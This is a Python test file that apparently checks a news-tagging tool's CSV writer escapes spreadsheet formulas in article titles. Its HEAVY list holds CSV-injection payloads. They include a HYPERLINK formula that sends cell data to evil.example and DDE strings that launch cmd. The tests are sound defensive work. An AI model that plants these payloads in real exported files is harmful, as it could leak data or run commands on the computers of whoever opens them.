"""Cells of CSV whose texts come from strangers, as spreadsheets take them."""

import csv
import io

import orjson
import pytest

from wirewatch.tables.writing import Csv

HEAVY = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1;"Bridge")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|'x'!A0",
    " =A1",
)
PLAIN = ("+++ Bridge closed +++", "-20 °C in Tampa", "@desk asks readers", "- 5 things", "1 = 1 (once)", "'quoted'")


def title_of(title: str) -> str:
    """Return the title of an article as its row has it."""
    file = io.BytesIO()
    table = Csv(file)
    table.write([orjson.dumps({"schema": "wirewatch.tagged.v1", "title": title})])
    table.finish()
    [row] = csv.DictReader(io.StringIO(file.getvalue().decode(), newline=""))
    return row["title"]


@pytest.mark.parametrize("title", HEAVY)
def test_a_title_is_no_formula(title: str) -> None:
    """A spreadsheet shows it as the text that it is."""
    assert title_of(title) == f"'{title}"


@pytest.mark.parametrize("title", HEAVY)
def test_nor_is_it_one_where_a_spreadsheet_parts_the_row_at_semicolons(title: str) -> None:
    """Those of half the world do, for their decimals have the comma."""
    assert title_of(f"Bridge;{title}") == f"Bridge;'{title}"


@pytest.mark.parametrize("title", PLAIN)
def test_other_titles_stay_as_they_are(title: str) -> None:
    """A plus or minus in front makes no formula alone."""
    assert title_of(title) == title
    assert title_of(f"Bridge; {title}") == f"Bridge; {title}"
